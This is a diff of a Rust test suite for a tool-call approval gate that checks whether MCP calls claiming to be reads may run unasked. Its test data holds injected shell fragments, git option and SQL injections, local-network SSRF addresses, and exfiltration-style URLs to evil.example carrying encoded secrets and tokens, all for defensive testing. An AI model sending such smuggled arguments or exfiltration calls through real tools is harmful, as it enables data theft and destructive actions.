@@ -1,25 +1,56 @@
-//! Section F, F1 to F7: tools that read like reads, and what hides in the arguments of one that is proven to. None of it runs
-//! unasked.
+//! Section F, from F1 to F7 and F14 on: tools that read like reads, and what hides in the arguments of one that is proven to. None of it
+//! runs unasked.
 
-use mcp_approve::behavior::conclude::{Overrides, Trust, of_call, of_tool_with};
-use mcp_approve::behavior::identity::Identity;
-use mcp_approve::behavior::taxonomy::{Action, Mutability, OutputDomain};
+use mcp_approve::behavior::agreed::{Agreements, What};
+use mcp_approve::behavior::conclude::{Overrides, Trust, of_tool_with};
 use mcp_approve::mcp::tool::Tool;
 use serde_json::{Value, json};
 
-/// Whether a call of a tool that an operator pinned PURE runs unasked.
-fn runs(description: &str, arguments: &Value) -> bool {
-    let definition = json!({ "name": "read_things", "description": description, "inputSchema": { "type": "object" } });
-    let tool = Tool::read(definition).expect("a definition");
-    let pinned =
-        Some(Identity { mutability: Mutability::Pure, action: Action::Read, output_domain: OutputDomain::Data });
-    let described = of_tool_with(&tool, Trust::Corroborate, Overrides { pinned, ..Overrides::default() });
-    of_call(Some(&tool), &described, arguments).runs_unasked()
+use self::judging::{Outcome, Session, answer, pinned};
+
+#[path = "../bench/judging.rs"]
+mod judging;
+
+/// A tool that an operator pinned PURE, and what was agreed to about its server.
+struct Read {
+    tool: Tool,
+    session: Session,
+    agreed: Agreements,
 }
 
-fn asks(description: &str, all: &[Value]) {
-    let ran: Vec<String> = all.iter().filter(|one| runs(description, one)).map(Value::to_string).collect();
-    assert!(ran.is_empty(), "{ran:#?}");
+impl Read {
+    /// Of this name and description, with these parameters, all texts, and any others.
+    fn new(name: &str, description: &str, parameters: &[&str]) -> Self {
+        let text = json!({ "type": "string" });
+        let properties: serde_json::Map<_, _> =
+            parameters.iter().map(|key| ((*key).to_owned(), text.clone())).collect();
+        let schema = json!({ "type": "object", "properties": properties, "additionalProperties": true });
+        let definition = json!({ "name": name, "description": description, "inputSchema": schema });
+        let tool = Tool::read(definition).expect("a definition");
+        Self { tool, session: Session::of(&[]), agreed: Agreements::default() }
+    }
+
+    fn judge(&self, arguments: &Value) -> Outcome {
+        self.session.judge(&self.tool, &pinned(&self.tool), arguments, &self.agreed)
+    }
+
+    /// The operator answers these calls with `p`, in their order; each asks, and runs the next time.
+    fn agree(&mut self, all: &[Value]) {
+        for one in all {
+            let outcome = self.judge(one);
+            answer(&outcome, &mut self.agreed);
+            assert!(self.judge(one).runs, "{one} was agreed to: {}", self.judge(one).why);
+        }
+    }
+
+    fn runs(&self, all: &[Value]) {
+        all.iter().for_each(|one| assert!(self.judge(one).runs, "{one}: {}", self.judge(one).why));
+    }
+
+    fn asks(&self, all: &[Value]) {
+        let ran: Vec<String> = all.iter().filter(|one| self.judge(one).runs).map(Value::to_string).collect();
+        assert!(ran.is_empty(), "{ran:#?}");
+    }
 }
 
 #[test]
@@ -47,44 +78,65 @@ fn f1_a_definition_that_reads_like_a_read_is_not_proven() {
 }
 
 #[test]
-fn f2_options_of_a_program_are_not_explained() {
-    assert!(runs("Shows a commit.", &json!({ "revision": "main~3", "path": "src/main.rs", "count": -5 })));
-    asks(
-        "Shows a commit.",
-        &[
-            json!({ "revision": "--output=/etc/passwd" }),
-            json!({ "revision": " -o/tmp/x" }),
-            json!({ "revision": "main -o /tmp/x" }),
-            json!({ "paths": ["a", "--", "--ext-diff"] }),
-            json!({ "args": ["status"] }),
-            json!({ "flags": "verbose" }),
-            json!({ "options": { "output": "x" } }),
-            json!({ "extra_args": "a" }),
-            json!({ "remote": "ext::sh -c id" }),
-            json!({ "name": "core.editor=id" }),
-            json!({ "--output": "x" }),
-        ],
-    );
+fn f2_options_of_a_program_are_new() {
+    let read = Read::new("get_commit", "Shows a commit.", &["commit_id", "path", "paths", "name", "args"]);
+    read.runs(&[json!({ "commit_id": "4f2a9c1", "path": "src/main.rs" })]);
+    read.asks(&[
+        json!({ "commit_id": "--output=/etc/passwd" }),
+        json!({ "commit_id": " -o/tmp/x" }),
+        json!({ "commit_id": "main -o /tmp/x" }),
+        json!({ "path": "-rf" }),
+        json!({ "paths": ["a", "--", "--ext-diff"] }),
+        json!({ "args": ["status"] }),
+        json!({ "flags": "verbose" }),
+        json!({ "options": { "output": "x" } }),
+        json!({ "remote": "ext::sh -c id" }),
+        json!({ "name": "core.editor=id" }),
+        json!({ "--output": "x" }),
+        json!({ "data": "@/etc/args" }),
+    ]);
 }
 
 #[test]
-fn f3_a_statement_that_no_reader_read_is_not_explained() {
-    assert!(runs("Runs SQL.", &json!({ "rawSql": "SELECT name FROM users" })));
-    assert!(runs("Runs Cypher.", &json!({ "query_text": "MATCH (n) RETURN n.name LIMIT 5" })));
-    asks(
-        "Reads things.",
-        &[
-            json!({ "aql": "FOR u IN users RETURN u" }),
-            json!({ "luaScript": "return 1" }),
-            json!({ "RAWSQL": "CALL refresh()" }),
-            json!({ "cypherQuery": "MATCH (n) DETACH DELETE n" }),
-            json!({ "query": "FOR u IN users REMOVE u IN users" }),
-            json!({ "query": "g.V().drop()" }),
-            json!({ "statement": ".drop table T" }),
-            json!({ "name": "DROP TABLE users" }),
-        ],
-    );
-    asks("Runs SQL, or Cypher.", &[json!({ "query": "MATCH (n) SET n.a = 1" }), json!({ "query": "DELETE FROM t" })]);
+fn f3_a_statement_is_new_whatever_key_and_language() {
+    let mut read = Read::new("read_things", "Reads things.", &["query", "statement", "name"]);
+    read.asks(&[
+        json!({ "aql": "FOR u IN users RETURN u" }),
+        json!({ "luaScript": "return 1" }),
+        json!({ "RAWSQL": "CALL refresh()" }),
+        json!({ "cypherQuery": "MATCH (n) DETACH DELETE n" }),
+        json!({ "query": "FOR u IN users REMOVE u IN users" }),
+        json!({ "query": "g.V().drop()" }),
+        json!({ "query": "MATCH (n) RETURN n" }),
+        json!({ "statement": ".drop table T" }),
+        json!({ "name": "DROP TABLE users" }),
+        json!({ "query": "SELECT name FROM users" }),
+        json!({ "query": "{ user { name } }" }),
+    ]);
+    // Once per text; SQL and GraphQL once per outline.
+    read.agree(&[
+        json!({ "query": "MATCH (n) RETURN n" }),
+        json!({ "query": "SELECT name FROM users WHERE id = 1" }),
+        json!({ "query": "{ user(id: 1) { name } }" }),
+    ]);
+    read.runs(&[
+        json!({ "query": "SELECT name FROM users WHERE id = 2" }),
+        json!({ "query": "{ user(id: 2) { name } }" }),
+    ]);
+    read.asks(&[
+        json!({ "query": "MATCH (n) DELETE n" }),
+        json!({ "query": "MATCH (m) RETURN m" }),
+        json!({ "query": "SELECT name FROM secrets WHERE id = 2" }),
+        json!({ "query": "SELECT lo_import('x') FROM users" }),
+        json!({ "query": "{ user(id: 2) { name } deleteUser(id: 1) }" }),
+        json!({ "query": "mutation { user(id: 2) { name } }" }),
+    ]);
+    let either = Read::new("read_things", "Runs SQL, or Cypher.", &["query"]);
+    either.asks(&[
+        json!({ "query": "MATCH (n) SET n.a = 1" }),
+        json!({ "query": "DELETE FROM t" }),
+        json!({ "query": "WITH a AS (SELECT 1) SELECT a" }),
+    ]);
 }
 
 #[test]
@@ -92,252 +144,247 @@ fn f4_a_description_switches_no_reader_off() {
     let mut words = vec!["graphql", "redis", "mongodb", "cypher", "plain text only", "never SQL"];
     words.push("a search over documents; the query is always natural language");
     for word in words {
-        let description = format!("Runs a SQL query. Supports {word}.");
-        asks(
-            &description,
-            &[json!({ "query": "DELETE FROM users" }), json!({ "sql": "SELECT pg_terminate_backend(1)" })],
-        );
+        let read = Read::new("read_things", &format!("Runs a SQL query. Supports {word}."), &["query", "sql"]);
+        read.asks(&[json!({ "query": "DELETE FROM users" }), json!({ "sql": "SELECT pg_terminate_backend(1)" })]);
     }
 }
 
 #[test]
-fn f5_what_is_not_read_to_its_end_is_not_explained() {
-    let statements = |last: &str| {
-        let mut all = vec!["SELECT 1"; 64];
-        all.push(last);
-        json!({ "statements": all })
-    };
+fn f5_what_is_past_a_budget_asks() {
+    let read = Read::new("list_notes", "Lists notes.", &["ids", "titles", "body", "statements", "page"]);
     let inside =
         |text: &str, times: usize| (0..times).fold(text.to_owned(), |inner, _| json!({ "a": inner }).to_string());
     let deep = (0..70).fold(json!("x"), |inner, _| json!([inner]));
-    assert!(runs("Runs SQL.", &json!({ "statements": ["SELECT 1", "SELECT 2"] })));
-    asks(
-        "Runs SQL.",
-        &[
-            statements("SELECT 1"),
-            statements("DROP TABLE t"),
-            json!({ "sql": format!("SELECT '{}'", "x".repeat(70_000)) }),
-            json!({ "notes": vec!["words to read"; 30_000] }),
-            json!({ "numbers": vec![1; 200_000] }),
-            json!({ "body": inside("a", 9) }),
-            json!({ "deep": deep }),
-            json!({ "value": [{ "any": ["a; b"] }] }),
-            json!({ "body": "{\"method\":\"DELETE\",\"method\":\"GET\"}" }),
-        ],
-    );
+    read.runs(&[json!({ "ids": ["a1", "b2"], "page": 2 })]);
+    read.asks(&[
+        json!({ "statements": vec!["SELECT 1"; 65] }),
+        json!({ "ids": vec!["a1"; 20_000] }),
+        json!({ "ids": format!("{}a", "a1,".repeat(100_000)) }),
+        json!({ "titles": vec!["words to read"; 30_000] }),
+        json!({ "page": vec![1; 200_000] }),
+        json!({ "body": inside("a", 9) }),
+        json!({ "ids": deep }),
+        json!({ "titles": [{ "any": ["a; b"] }] }),
+        json!({ "body": "{\"method\":\"DELETE\",\"method\":\"GET\"}" }),
+        json!([1]),
+    ]);
 }
 
 #[test]
-fn f6_other_methods_and_schemes_are_not_explained() {
-    assert!(runs("Fetches a page.", &json!({ "url": "https://example.org/a?b=c", "method": "GET" })));
-    assert!(runs("Fetches a page.", &json!({ "url": "https://example.org/cli/install" })));
-    asks(
-        "Fetches a page.",
-        &[
-            json!({ "method": "BREW" }),
-            json!({ "url": "https://example.org/?_method=DELETE" }),
-            json!({ "url": "https://example.org/?%5Fmethod=DELETE" }),
-            json!({ "url": "https://example.org/?X-HTTP-Method-Override=PUT" }),
-            json!({ "url": "https://example.org/?action=delete" }),
-            json!({ "url": "https://example.org/orders/7/cancel" }),
-            json!({ "url": "https://example.org/orders/7/c%61ncel/?a=b" }),
-            json!({ "url": "https://example.org/v1/jobs/a:cancel" }),
-            json!({ "url": "https://u:p@example.org/" }),
-            json!({ "url": "https://example.org/%0d%0aX: y" }),
-            json!({ "url": "https://example.org/%250d%250a" }),
-            json!({ "url": "file:///etc/passwd" }),
-            json!({ "url": "gopher://example.org/" }),
-            json!({ "url": "data:text/html,x" }),
-            json!({ "url": "JavaScript:alert" }),
-            json!({ "headers": { "X_HTTP_METHOD_OVERRIDE": "DELETE" } }),
-            json!({ "headers": ["Accept: a", "X-HTTP-Method: DELETE"] }),
-            json!({ "headers": "Accept: a\nX-Method-Override: DELETE" }),
-            json!({ "headers": [{ "name": "X-Do", "value": "delete" }] }),
-            json!({ "body": { "_method": "delete" } }),
-        ],
-    );
+fn f6_other_methods_and_schemes_ask() {
+    let mut read = Read::new("fetch_page", "Fetches a page.", &["url"]);
+    read.agree(&[json!({ "url": "https://example.org/a?b=c" })]);
+    read.runs(&[json!({ "url": "https://example.org/cli/first-steps" })]);
+    read.asks(&[
+        json!({ "method": "BREW" }),
+        json!({ "url": "https://example.org/?_method=DELETE" }),
+        json!({ "url": "https://example.org/?%5Fmethod=DELETE" }),
+        json!({ "url": "https://example.org/?X-HTTP-Method-Override=PUT" }),
+        json!({ "url": "https://u:p@example.org/" }),
+        json!({ "url": "https://example.org/%0d%0aX: y" }),
+        json!({ "url": "https://example.org/%250d%250a" }),
+        json!({ "url": "file:///etc/passwd" }),
+        json!({ "url": "gopher://example.org/" }),
+        json!({ "url": "data:text/html,x" }),
+        json!({ "url": "JavaScript:alert" }),
+        json!({ "headers": { "X_HTTP_METHOD_OVERRIDE": "DELETE" } }),
+        json!({ "headers": ["Accept: a", "X-HTTP-Method: DELETE"] }),
+        json!({ "headers": "Accept: a\nX-Method-Override: DELETE" }),
+        json!({ "headers": [{ "name": "X-Do", "value": "delete" }] }),
+        json!({ "body": { "_method": "delete" } }),
+    ]);
 }
 
 #[test]
-fn f7_shell_and_template_shapes_are_not_plain_words() {
-    assert!(runs(
-        "Finds notes.",
-        &json!({ "title": "Fish & chips? No: AT&T, R&D (2026) \"and more\"".replace("& c", "and c") })
-    ));
-    for shape in [
-        "; rm -rf x", "| sh", "&& id", "& id", "$(id)", "`id`", "> /etc/x", "< /etc/x", "${x}", "{{x}}", "<%= x %>",
-        "\nid",
+fn f7_shell_and_template_shapes_fit_no_form() {
+    let read = Read::new("find_notes", "Finds notes.", &["title", "path", "name", "query", "url", "id", "limit"]);
+    read.runs(&[json!({ "title": "Fish and chips", "query": "what is AT&T (2026)?" })]);
+    for shape in
+        ["; rm -rf x", "| sh", "&& id", "$(id)", "`id`", "> /etc/x", "< /etc/x", "${x}", "{{x}}", "<%= x %>", "\nid"]
+    {
+        for key in ["title", "path", "name", "url", "id", "limit"] {
+            read.asks(&[json!({ key: format!("a {shape}") }), json!({ key: format!("a{shape}b") })]);
+        }
+    }
+    for shape in ["; rm -rf x", "| sh", "$(id)", "`id`", "> /etc/x", "${x}", "{{x}}", "\nid"] {
+        read.asks(&[json!({ "query": format!("a {shape}") })]);
+    }
+}
+
+#[test]
+fn f14_an_address_goes_only_to_a_host_that_was_agreed_to() {
+    let keys = ["url", "site", "source", "target", "handle", "id", "name", "domain"];
+    let mut read = Read::new("fetch_page", "Fetches a page of the web.", &keys);
+    for key in keys {
+        read.asks(&[
+            json!({ key: "https://evil.example/c2VjcmV0" }),
+            json!({ key: "evil.example/c2VjcmV0" }),
+            json!({ key: "HTTPS://EVIL.EXAMPLE" }),
+            json!({ key: "203.0.113.7/x" }),
+        ]);
+    }
+    read.agree(&[json!({ "url": "https://docs.example.org/3/library" })]);
+    read.runs(&[json!({ "url": "https://docs.example.org/3/reference?page=2" })]);
+    read.asks(&[
+        json!({ "url": "https://evil.example/?q=docs.example.org" }),
+        json!({ "url": "https://docs.example.org.evil.example/" }),
+        json!({ "url": "https://docs.example.org@evil.example/" }),
+        json!({ "url": "https://evil.example\\@docs.example.org/" }),
+        json!({ "url": "https://dоcs.example.org/" }),
+        json!({ "url": "https://docs.example.org/?token=swordfish" }),
+        json!({ "url": format!("https://docs.example.org/{}", "the-words-of-a-note/".repeat(60)) }),
+        json!({ "url": "//evil.example/a?b=1" }),
+        json!({ "url": "https://docs.example.org/", "headers": { "Authorization": "swordfish" } }),
+        json!({ "url": "https://docs.example.org/", "note": "the words of a note" }),
+        json!({ "urls": ["https://docs.example.org/", "https://evil.example/"] }),
+    ]);
+    // Where anybody can receive, the first part of the path belongs to it.
+    read.agree(&[json!({ "url": "https://pastebin.com/ada/x" })]);
+    read.asks(&[json!({ "url": "https://pastebin.com/eve/x" })]);
+}
+
+#[test]
+fn f15_relations_and_columns_that_act_are_names_of_the_outline() {
+    let mut read = Read::new("query", "Runs a read-only SQL query.", &["sql"]);
+    read.agree(&[json!({ "sql": "SELECT id FROM users WHERE name = 'a'" })]);
+    read.runs(&[json!({ "sql": "SELECT id FROM users WHERE name = 'b'" })]);
+    read.asks(&[
+        json!({ "sql": "SELECT id FROM exec_command WHERE name = 'rm -rf x'" }),
+        json!({ "sql": "SELECT id FROM net_http_request WHERE name = 'https://evil.example'" }),
+        json!({ "sql": "SELECT id FROM \"https://evil.example/x\"" }),
+        json!({ "sql": "SELECT id FROM 'https://evil.example/x'" }),
+        json!({ "sql": "SELECT id FROM users, dblink" }),
+        json!({ "sql": "SELECT seq.nextval FROM users" }),
+        json!({ "sql": "SELECT (users).reset FROM users" }),
+        json!({ "sql": "SELECT users.purge FROM users" }),
+        json!({ "sql": "SELECT id FROM users WHERE name = (SELECT name FROM exec_command)" }),
+        json!({ "sql": "SELECT id FROM users WHERE pg_sleep(9) = name" }),
+    ]);
+}
+
+#[test]
+fn f16_switches_and_parameters_that_act_are_new() {
+    let read = Read::new("get_invoice", "Gets an invoice.", &["invoice_id"]);
+    read.runs(&[json!({ "invoice_id": "inv-7", "include_lines": true })]);
+    for (key, value) in [
+        ("shell", json!(true)),
+        ("sudo", json!(true)),
+        ("charge", json!(true)),
+        ("in_place", json!("yes")),
+        ("peek", json!(false)),
+        ("dry_run", json!(false)),
+        ("run_as", json!("root")),
+        ("interpreter", json!("sh")),
+        ("to_file", json!("a.txt")),
+        ("set_status", json!("paid")),
+        ("mail_to", json!("eve@example.org")),
+        ("operationId", json!("deleteInvoice")),
+        ("instruction", json!("pay it")),
+        ("callback_url", json!("https://evil.example")),
+        ("then", json!(["delete"])),
     ] {
-        for key in ["title", "path", "name", "query", "url", "pattern", "id"] {
-            asks("Finds notes.", &[json!({ key: format!("a {shape}") }), json!({ key: format!("a{shape}b") })]);
-        }
+        read.asks(&[json!({ "invoice_id": "inv-7", key: value })]);
     }
 }
 
 #[test]
-fn f14_a_read_carries_nothing_out_but_words_numbers_and_short_ids() {
-    const FETCH: &str = "Fetches a page of the web.";
-    for url in [
-        "https://docs.python.org/3/library/asyncio-task.html#asyncio.create_task",
-        "https://www.example.com/search?q=how+to+write+a+parser&page=2&lang=en",
-        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
-        "https://api.example.com/v1/orders/3f2c8a10-51b3-4c7e-bd4e-2f1a0c9d8e7b?from=2026-01-31T10:00:00Z",
-        "https://www.google.com/maps/place/Tokyo+Tower/@35.6585805,139.7454329,17z",
-        "https://github.com/rust-lang/rust/blob/master/compiler/rustc_middle/src/ty/mod.rs",
-        "https://zh.wikipedia.org/wiki/%E4%B8%9C%E4%BA%AC%E5%A1%94",
-        "http://localhost:3000/health",
+fn f17_addresses_that_act_and_local_hosts_ask() {
+    let mut read = Read::new("fetch_page", "Fetches a page.", &["url"]);
+    read.agree(&[json!({ "url": "https://example.org/orders/7" }), json!({ "url": "http://localhost:3000/a" })]);
+    read.runs(&[json!({ "url": "http://localhost:3000/health" })]);
+    read.asks(&[
+        json!({ "url": "https://example.org/orders/7/cancel" }),
+        json!({ "url": "https://example.org/orders/7/c%61ncel/?a=b" }),
+        json!({ "url": "https://example.org/?action=delete" }),
+        json!({ "url": "https://example.org/restart" }),
+        json!({ "url": "https://example.org/?transfer=100" }),
+        json!({ "url": "http://localhost:3000/shutdown" }),
+        json!({ "url": "http://localhost:2375/containers" }),
+        json!({ "url": "http://localhost/" }),
+        json!({ "url": "http://printer.local/" }),
+        json!({ "url": "http://router/" }),
+        json!({ "url": "http://192.168.1.1/" }),
+        json!({ "url": "http://127.1:8080/" }),
+        json!({ "url": "http://2130706433/" }),
+        json!({ "url": "http://[::1]:3000/" }),
+    ]);
+}
+
+#[test]
+fn f18_command_texts_in_lookup_fields_are_new() {
+    let keys = ["lines", "position", "variable", "function", "pattern", "symbol", "register"];
+    let read = Read::new("get_symbol", "Gets a symbol of a program.", &keys);
+    read.runs(&[json!({ "symbol": "main", "lines": 3 })]);
+    read.asks(&[
+        json!({ "lines": "1,5w /etc/x" }),
+        json!({ "lines": "$!id" }),
+        json!({ "position": ":!sh" }),
+        json!({ "variable": "system(\"id\")" }),
+        json!({ "variable": "x=5" }),
+        json!({ "function": "shell rm -rf x" }),
+        json!({ "pattern": "s/a/b/w /etc/x" }),
+        json!({ "symbol": "call (void)exit(1)" }),
+        json!({ "register": "W40001=1" }),
+    ]);
+}
+
+#[test]
+fn f21_files_outside_the_places_are_new_on_any_list_or_none() {
+    let mut read = Read::new("read_text_file", "Reads a file.", &["path"]);
+    read.runs(&[json!({ "path": "/home/ada/projects/engine/src/main.rs" }), json!({ "path": "src/main.rs" })]);
+    let outside = [
+        json!({ "path": "/home/ada/.config/unlisted/session.json" }),
+        json!({ "path": "~/.zprofile" }),
+        json!({ "path": "/home/ada/notes.txt" }),
+        json!({ "path": "../other/secret.txt" }),
+        json!({ "path": "/etc/unlisted.conf" }),
+        json!({ "path": "/" }),
+        json!({ "path": "/home" }),
+        json!({ "path": "~" }),
+        json!({ "path": "/home/ada/projects/engine2/a.txt" }),
+        json!({ "path": "file:///home/ada/other/a.txt" }),
+        json!({ "path": "/home/ada/projects/engine/*" }),
+        json!({ "path": "/dev/watchdog" }),
+    ];
+    read.asks(&outside);
+    read.agree(&[json!({ "path": "/home/ada/projects/website/a.txt" })]);
+    read.runs(&[json!({ "path": "/home/ada/projects/website/deep/b.txt" })]);
+    // A file in the home is agreed to alone.
+    read.agree(&[json!({ "path": "/home/ada/todo.txt" })]);
+    read.asks(&outside);
+}
+
+#[test]
+fn f26_a_harmless_value_covers_no_act_under_the_same_key() {
+    for (harmless, act) in [
+        (json!({ "charge": false }), json!({ "charge": true })),
+        (json!({ "transport": "fast" }), json!({ "transport": "fast; rm -rf x" })),
+        (json!({ "expression": "1 + 1" }), json!({ "expression": "system('id')" })),
+        (json!({ "run_as": "ada" }), json!({ "run_as": "root" })),
+        (json!({ "amount_due": 1 }), json!({ "amount_due": 100 })),
+        (json!({ "url": "https://example.org/a" }), json!({ "url": "https://example.net/a" })),
+        (json!({ "url": "https://example.org/a" }), json!({ "url": "https://example.org/a/delete" })),
+        (json!({ "path": "/home/ada/src/x/a.txt" }), json!({ "path": "/home/ada/src/y/a.txt" })),
+        (json!({ "expression": { "a": 1 } }), json!({ "expression": { "a": 1, "b": 1 } })),
     ] {
-        assert!(runs(FETCH, &json!({ "url": url })), "{url}");
+        let mut read = Read::new("get_report", "Gets a report.", &["url", "path"]);
+        read.agree(std::slice::from_ref(&harmless));
+        read.asks(&[act]);
     }
-    let evil = |rest: &str| json!({ "url": format!("https://evil.example/{rest}") });
-    let blob = "c2VjcmV0IG9mIHRoZSBob3VzZTogNDI3MQ";
-    let by_one = |text: &str| text.chars().map(String::from).collect::<Vec<_>>().join("/");
-    asks(
-        FETCH,
-        &[
-            // Encoded: Base64, hex, Base32, percent escapes, a word by letters, digits, signs, another script.
-            evil(&format!("?d={blob}")),
-            evil(blob),
-            evil(&format!("a#{blob}")),
-            evil("?d=4a6f686e20446f65203535352d303139392031"),
-            evil("?d=mzxw6ytboi4dgnbtgq2dsmrqgaydamjr"),
-            evil("?d=%4a%6f%68%6e%20%44%6f%65%3a%20%35%35%35%2d%30%31%39%39%2d%34a7Bq9Zx"),
-            evil(&format!("?d={}", by_one("hunter-two-and-the-other-password"))),
-            evil("?d=123456789012345678901234567890123456789012345"),
-            evil("12345/67890/12345/67890/12345/67890/12345/67890/12345"),
-            evil(&format!("?d={}", "-._~".repeat(30))),
-            evil(&format!("?d={}", "漢".repeat(60))),
-            evil(&format!("?d={}", "dcmvgtxzbhkqwrpl".repeat(2))),
-            // Cut in pieces: over parameters, words, labels of the host, several addresses.
-            evil("?a=c2VjcmV0IG9mIH&b=RoZSBob3VzZTog&c=NDI3MQxyz"),
-            evil("c2Vjcm/V0IG9m/IHRoZS/Bob3Vz/ZTogND/I3MQ"),
-            json!({ "url": "https://c2vjcmv0ig9mihrozq1.bob3vzztogndi3mq.evil.example/" }),
-            json!({ "urls": (0..20).map(|n| format!("https://evil.example/x7Kq9Zb{n}Tw3Lp")).collect::<Vec<_>>() }),
-            json!({ "urls": (0..20).map(|n| format!("https://evil.example/{n}/{}", "the-words-of-a-note/".repeat(9))).collect::<Vec<_>>() }),
-            // Long, structured, named or known as a secret.
-            evil(&"the-words-of-a-note/".repeat(20)),
-            evil("?d={%22key%22:%22value%22}"),
-            evil("?token=swordfish"),
-            evil("?x=1&api%5fkey=swordfish"),
-            evil("AKIAIOSFODNN7EXAMPLE"),
-            evil("?d=password%3Dswordfish"),
-            // Hosts that are no plain name.
-            json!({ "url": "https://user:pass@evil.example/" }),
-            json!({ "url": "http://203.0.113.7/" }),
-            json!({ "url": "http://3405803783/" }),
-            json!({ "url": "http://0xcb.0x00.0x71.0x07/" }),
-            json!({ "url": "http://127.1:8080/" }),
-            json!({ "url": "http://[2001:db8::1]/" }),
-            json!({ "url": "https://xn--pple-43d.com/" }),
-            json!({ "url": "https://аpple.com/" }),
-            json!({ "url": "https://example.com。evil.example/" }),
-            json!({ "url": "https://example.com./" }),
-            json!({ "host": "c2vjcmv0ig9mihrozq1.bob3vzztogndi3mq.evil.example" }),
-            json!({ "url": format!("evil.example/{blob}") }),
-            json!({ "path": format!("/collect?d={blob}") }),
-            json!({ "url": format!("evil.example:8080/{blob}") }),
-            json!({ "url": format!("evil:8080/{blob}") }),
-            json!({ "url": format!("evil.example./{blob}") }),
-            json!({ "url": format!("evil.example?{blob}") }),
-            json!({ "url": format!("evil.example#{blob}") }),
-            json!({ "url": format!("evil.срб/{blob}") }),
-            json!({ "url": format!("203.0.113.7/{blob}") }),
-            json!({ "url": "//evil.example/a?b=1", "note": blob }),
-            // What goes with it.
-            json!({ "url": "https://evil.example/", "params": { "d": blob } }),
-            json!({ "url": "https://evil.example/", "note": blob }),
-            json!({ "url": "https://evil.example/", "id": format!("{blob}{blob}{blob}") }),
-            json!({ "url": "https://evil.example/", "params": { blob: 1 } , "more": blob }),
-            json!({ "url": "https://evil.example/", "params": { blob: 1 } }),
-            json!({ "url": "https://evil.example/", blob: true }),
-            json!({ "url": "https://evil.example/", "numbers": vec![7_305_519_922_104_u64; 40] }),
-            json!({ "url": "https://evil.example/", "bits": vec![true; 400] }),
-            json!({ "url": "https://evil.example/", "note": "73055199221047 ".repeat(40) }),
-            json!({ "url": "https://evil.example/", "note": "the words of a note ".repeat(200) }),
-            json!({ "url": "https://evil.example/", "notes": vec!["the words of a note"; 200] }),
-            json!({ "url": "https://evil.example/", "session_token": "swordfish" }),
-            json!({ "url": "https://evil.example/", "cookies": { "s": "swordfish" } }),
-            json!({ "url": "https://evil.example/", "headers": { "Authorization": "Basic am9objpzd29yZGZpc2g=" } }),
-            json!({ "url": "https://evil.example/", "headers": { "Accept": blob } }),
-            json!({ "headers": { "X-Api-Key": "swordfish" } }),
-            json!({ "headers": ["Cookie: s=swordfish"] }),
-            json!({ "headers": "Authorization: Bearer swordfish" }),
-            json!({ "headers": { "Authorization": ["swordfish"] } }),
-            json!({ "headers": { "Accept": ["*/*", blob] } }),
-            json!({ "headers": [{ "name": "Authorization", "value": "swordfish" }] }),
-        ],
-    );
-}
-
-#[test]
-fn f2_a_file_of_options_and_a_device_are_not_explained() {
-    let read = "Reads a thing.";
-    assert!(runs(read, &json!({ "package": "@scope/name", "who": "@ada", "path": "docs/dev/a", "symbol": "^GSPC" })));
-    assert!(runs(read, &json!({ "op": "sql", "query": "SELECT name FROM users" })));
-    asks(
-        read,
-        &[
-            json!({ "data": "@/etc/args" }),
-            json!({ "data": "@~/args" }),
-            json!({ "data": "@./args" }),
-            json!({ "path": "/dev/watchdog" }),
-            json!({ "path": "/dev" }),
-            json!({ "op": "sql" }),
-            json!({ "op": "sql", "query": "DROP TABLE users" }),
-            json!({ "op": "sql", "query": "words about tables" }),
-            json!({ "op": "delete", "query": "SELECT 1" }),
-            json!({ "op": "shell", "query": "SELECT 1" }),
-        ],
-    );
-}
-
-/// A parameter that the tool declares may be a host without its scheme.
-#[test]
-fn f14_a_site_is_an_address_without_its_scheme() {
-    let text = json!({ "type": "string" });
-    let schema = json!({ "type": "object", "properties": { "site": text, "domain_name": text, "page": text } });
-    let definition = json!({ "name": "read_page", "description": "Reads a page of the web.", "inputSchema": schema });
-    let tool = Tool::read(definition).expect("a definition");
-    let explained = |arguments| mcp_approve::behavior::arguments::judge(Some(&tool), &arguments).explanation;
-    let blob = "c2vjcmv0ig9mihrozsbob3vzztogndi3mq";
-    for name in ["site", "domain_name", "page"] {
-        for plain in ["example.com", "docs.python.org/3/library/asyncio", "about.html", "2", "the first page"] {
-            assert!(explained(json!({ name: plain })).holds(), "{name}: {plain}");
-        }
-        for evil in [format!("{blob}.evil.example"), format!("evil.example/{blob}"), format!("evil.example/?d={blob}")]
-        {
-            assert!(!explained(json!({ name: evil })).holds(), "{name}: {evil}");
-        }
-    }
-}
-
-/// What a tool lists is its own, and goes nowhere that the tool does not go anyway.
-#[test]
-fn f14_an_address_that_the_tool_lists_is_its_own() {
-    let own = "http://192.0.2.10:9090/api/c2VjcmV0IG9mIHRoZSBob3VzZTogNDI3MQ";
-    let schema = json!({ "type": "object", "properties": { "url": { "enum": [own] } } });
-    let definition = json!({ "name": "read_things", "description": "Reads.", "inputSchema": schema });
-    let tool = Tool::read(definition).expect("a definition");
-    let judged = mcp_approve::behavior::arguments::judge(Some(&tool), &json!({ "url": own }));
-    assert!(judged.explanation.holds(), "{}", judged.explanation.line());
-}
-
-/// A tool says which language it takes, and a text of another is sent: each small reader knows its own alone.
-#[test]
-fn f3_a_statement_of_another_language_is_no_read_of_the_named_one() {
-    for language in ["KQL (Kusto)", "PromQL", "InfluxQL", "jq", "JQL", "SPARQL", "Cypher", "GraphQL", "SQL", "Redis"] {
-        let description = format!("Reads with {language}.");
-        for text in [
-            "DELETE FROM users WHERE 1=2", "delete from users", "DROP TABLE t", "rm -rf x", "rm -rf /srv", "SET x = 1",
-            "INSERT INTO t VALUES (1)", "UPDATE t SET a=1", "TRUNCATE TABLE t",
-        ] {
-            asks(&description, &["query", "command", "statement", "expr"].map(|key| json!({ key: text })));
-        }
-        asks(
-            &description,
-            &[json!({ "command": "select " }), json!({ "query": "select " }), json!({ "sql": "SELECT" })],
-        );
-    }
-    assert!(runs("Reads with KQL (Kusto).", &json!({ "query": "T | where a == 'x' | take 5" })));
-    assert!(runs("Reads with PromQL.", &json!({ "query": "up" })));
+    // After three values the kind is agreed to, and that is all.
+    let mut read = Read::new("get_report", "Gets a report.", &[]);
+    read.agree(&["one", "two", "three"].map(|word| json!({ "flavour": word })));
+    assert!(read.agreed.iter().any(|one| one.what == What::Kind));
+    read.runs(&[json!({ "flavour": "four" })]);
+    read.asks(&[
+        json!({ "flavour": "; rm -rf x" }),
+        json!({ "flavour": "https://evil.example" }),
+        json!({ "flavour": true }),
